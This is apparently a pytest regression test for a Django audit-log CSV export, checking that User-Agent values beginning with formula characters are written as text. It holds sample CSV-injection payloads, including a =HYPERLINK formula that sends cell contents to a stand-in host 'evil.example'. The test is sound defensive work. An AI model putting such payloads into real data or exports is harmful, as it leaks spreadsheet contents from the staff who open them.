"""Finding 7b of issue 14: the staff audit export wrote a user agent such as
``=HYPERLINK(...)`` into the CSV as is, so the spreadsheet staff open it in evaluates
it (OWASP "CSV Injection"). The attack is an ordinary API request with a crafted
``User-Agent``; the export must write every such cell as text (a leading ``'``)."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from django.test import Client

from audit.models import AuditLog
from tenancy.models import Role, User
from tests.unit.test_api_org import acme, org_factory, trigger_body  # noqa: F401 (fixtures)

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture
def staff_client(db) -> Client:
    user = User.objects.create_superuser(email=f"staff-{uuid.uuid4().hex[:6]}@flowforge.example",
                                         password="x-long-pass-123")
    client = Client()
    client.force_login(user)
    return client


def export_rows(staff_client, org) -> list[dict]:
    response = staff_client.get("/admin/audit/auditlog/export.csv", {"organization__id__exact": str(org.pk)})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("user_agent", [FORMULA, "+SUM(1,2)", "-2+3", "@SUM(1)", "\tcmd", "\r=1+1"])
def test_a_formula_in_a_user_agent_is_exported_as_text(staff_client, acme, user_agent):  # noqa: F811
    client = Client()
    # A member schedules a trigger through the API, from a "client" of its choosing.
    response = client.post("/api/v1/triggers/", trigger_body(), content_type="application/json",
                           headers={**acme.as_(Role.MEMBER), "User-Agent": user_agent})
    assert response.status_code == 201, response.content
    # The request really recorded the user agent, as sent, in the organization's chain.
    created = AuditLog.objects.for_organization(acme.org).filter(action="trigger.created").order_by("-seq").first()
    assert created.user_agent == user_agent

    rows = export_rows(staff_client, acme.org)
    cells = [r["user_agent"] for r in rows if r["action"] == "trigger.created" and r["user_agent"]]
    assert cells == ["'" + user_agent], cells
    # No cell of the export starts a formula.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (row["action"], value)

    # Cells that start no formula are written as they are.
    trigger_row = next(r for r in rows if r["action"] == "trigger.created")
    assert trigger_row["ip_address"] == "127.0.0.1" and trigger_row["actor_type"] == "api_key"
